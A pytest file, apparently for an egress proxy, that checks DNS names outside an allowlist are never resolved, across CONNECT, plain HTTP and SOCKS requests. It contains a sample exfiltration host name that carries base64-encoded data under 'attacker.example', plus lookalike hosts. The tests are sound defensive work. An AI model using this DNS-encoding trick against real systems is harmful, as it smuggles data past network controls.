"""A program puts what it has read into names, for the name server of an attacker to see."""

from __future__ import annotations

import pytest

from tests.attacks.network.proxied import (
    GOOD,
    Proxied,
    allowing,
    connect_head,
    error_of,
    get,
    status_of,
)

SECRET = "c2VjcmV0.attacker.example"


def socks(host: str, port: int) -> bytes:
    name = host.encode()
    return b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(name)]) + name + port.to_bytes(2, "big")


@pytest.mark.parametrize(
    "request_of",
    [
        lambda host: connect_head(host, 443),
        lambda host: get(host, 80),
        lambda host: socks(host, 443),
    ],
    ids=["connect", "plain", "socks"],
)
def test_a_name_that_no_list_has_is_not_resolved(proxied: Proxied, request_of: object) -> None:
    upstream = proxied.upstream()
    door = proxied.door(allowing(upstream.rule, "*.wide.example"))
    for host in (SECRET, f"{SECRET}.good.example", "wide.example", f"x{GOOD}", f"{GOOD}.evil"):
        door.talk(request_of(host))  # type: ignore[operator]
    attempts = door.wait_for(5)
    assert proxied.looked_up == []
    assert {each.outcome for each in attempts} == {"refused"}
    assert {each.why for each in attempts} == {"not_allowed"}

    assert door.talk(get(GOOD, upstream.port)).endswith(b"GOOD")
    assert proxied.looked_up == [GOOD]


def test_a_name_on_another_port_and_a_path_that_is_not_allowed_are_not_resolved(
    proxied: Proxied,
) -> None:
    upstream = proxied.upstream()
    door = proxied.door(allowing(f"GET {upstream.rule}/v1"))
    assert status_of(door.talk(get(GOOD, upstream.port + 1, "/v1"))) == 403
    assert status_of(door.talk(get(GOOD, upstream.port, "/v2"))) == 403
    assert status_of(door.talk(get(GOOD, upstream.port, "/v1", method="PUT"))) == 403
    # A tunnel that could carry the allowed request is opened, and leads nowhere until then.
    door.tunnel(GOOD, upstream.port).close()
    assert proxied.looked_up == []
    assert status_of(door.talk(get(GOOD, upstream.port, "/v1"))) == 200
    assert proxied.looked_up == [GOOD]


def test_an_inner_list_alone_resolves_nothing(proxied: Proxied) -> None:
    from providers.network import Layer, Network, NetworkPolicy

    outer = Layer("tenant", NetworkPolicy.parse("allowlist", ["other.example"]))
    inner = Layer("run", NetworkPolicy.parse("allowlist", [GOOD]))
    door = proxied.door(Network((outer, inner)))
    told = error_of(door.talk(connect_head(GOOD, 443)))
    assert (told["list"], told["host"], told["port"]) == ("tenant", GOOD, 443)
    assert GOOD in told["message"]
    assert "administrator" in told["message"]
    assert proxied.looked_up == []
